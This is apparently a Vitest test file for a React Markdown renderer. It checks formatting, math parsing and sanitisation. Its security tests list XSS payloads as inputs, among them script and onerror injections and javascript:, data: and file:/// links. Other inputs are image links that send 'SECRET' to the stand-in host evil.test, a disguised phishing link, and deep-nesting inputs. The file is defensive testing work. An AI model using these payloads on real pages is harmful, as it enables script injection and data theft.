// @vitest-environment happy-dom

import { act, screen } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { drawn } from "@/testing/around";
import { useView } from "@/ui/view";
import { Markdown } from "./Markdown";
import { mathsAt } from "./maths";
import { plain } from "./parse";

const shown = async (text: string, live = false) => {
  await drawn(
    <div data-testid="md">
      <Markdown text={text} live={live} />
    </div>,
  );
  return screen.getByTestId("md");
};

describe("what people write", () => {
  it("is drawn with its structure", async () => {
    const md = await shown(
      "# Title\n\nSome **bold** and `code`.\n\n1. one\n   - nested\n2. two\n\n|a|b|\n|-|-:|\n|1|2|\n\n> quoted\n\n- [x] done",
    );
    expect(md.querySelector("h2")?.textContent).toBe("Title");
    expect(md.querySelector("strong")?.textContent).toBe("bold");
    expect(md.querySelectorAll("ol > li")).toHaveLength(2);
    expect(md.querySelector("ol ul li")?.textContent).toBe("nested");
    expect(md.querySelectorAll("td")).toHaveLength(2);
    expect(md.querySelector("blockquote")?.textContent).toBe("quoted");
    expect(md.querySelector('[aria-label="done"]')).not.toBeNull();
  });

  it("keeps code as it is, with its language", async () => {
    const md = await shown("```python\nif a < b:\n    pass\n```\n");
    expect(md.querySelector("pre")?.textContent).toBe("if a < b:\n    pass");
    expect(md.querySelector("figcaption")?.textContent).toContain("python");
  });

  it("resolves references to a definition further down", async () => {
    const md = await shown("see [this][x] now\n\nmore\n\n[x]: https://example.com/a\n");
    expect(md.querySelector("a")?.href).toBe("https://example.com/a");
  });

  it("shows signs that are written as entities", () => {
    expect(plain("a &amp; b &#65; &#x42; &nothing;")).toBe("a & b A B &nothing;");
  });
});

describe("formulas", () => {
  it.each([
    ["$x$ y", "x", false],
    ["$$x$$", "x", true],
    ["\\(x\\)", "x", false],
    ["\\[x\\]", "x", true],
  ])("%s", (source, text, display) => {
    expect(mathsAt(source)).toMatchObject({ text, display });
  });
  it.each(["$5 and $6", "$ x$", "$x", "$$"])("%s is none", source => {
    expect(mathsAt(source)).toBeUndefined();
  });
});

const FORBIDDEN = "img,script,iframe,style,link,meta,base,form,object,embed,video,audio,source,math,input";

describe("what must not happen", () => {
  it.each([
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<math><mtext></mtext></math>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<base href=https://evil.test/>",
    "<form action=https://evil.test/><input></form>",
    "<style>*{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<link rel=stylesheet href="https://evil.test/x.css">',
    '<video poster="https://evil.test/p"></video>',
    "![x](https://evil.test/?q=SECRET)",
    "![x][ref]\n\n[ref]: https://evil.test/?q=SECRET\n",
    "text <b onclick=alert(1)>bold</b> text",
  ])("%s makes no element and loads nothing", async text => {
    const md = await shown(text);
    expect(md.querySelectorAll(FORBIDDEN)).toHaveLength(0);
    const all = [...md.querySelectorAll("*")];
    expect(all.filter(one => [...one.attributes].some(({ name }) => name.startsWith("on")))).toEqual([]);
    for (const one of md.querySelectorAll("svg")) expect(one.classList.contains("lucide")).toBe(true);
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test/)",
    "<javascript:alert(1)>",
    "[x](&#106;avascript:alert(1))",
  ])("%s leads nowhere", async text => {
    const md = await shown(text);
    expect(md.querySelectorAll("a")).toHaveLength(0);
  });

  it("a link whose text hides where it leads is asked about", async () => {
    const md = await shown("[your bank](https://evil.test/?q=SECRET) and https://plain.test/a");
    const [hidden, plainOne] = [...md.querySelectorAll("a")];
    for (const link of [hidden, plainOne]) {
      expect(link?.rel).toContain("noreferrer");
      expect(link?.rel).toContain("noopener");
    }
    expect(plainOne?.textContent).toBe("https://plain.test/a");
    await act(async () => hidden?.click());
    expect(useView.getState().dialog).toMatchObject({
      kind: "confirm",
      text: expect.stringContaining("https://evil.test/?q=SECRET"),
    });
    useView.setState({ dialog: null });
  });

  it.each([
    ["quotes", `${"> ".repeat(500)}x`],
    ["lists", Array.from({ length: 500 }, (_, i) => `${" ".repeat(2 * i)}- x`).join("\n")],
    ["numbers", "1. ".repeat(5_000)],
    ["brackets", "[".repeat(5_000)],
    ["stars", "*a_".repeat(3_000)],
  ])("500 levels of %s are drawn all the same", async (_, text) => {
    const md = await shown(text);
    expect(md.textContent?.length).toBeGreaterThan(0);
    // Not more deeply than anybody reads.
    expect(md.querySelectorAll("blockquote, ul, ol").length).toBeLessThan(40);
  });

  it("a very long text is shown in part until it is asked for", async () => {
    const md = await shown("word ".repeat(200_000));
    expect(md.textContent?.length).toBeLessThan(40_000);
    expect(screen.getByRole("button", { name: /Show more/ })).toBeTruthy();
  });
});
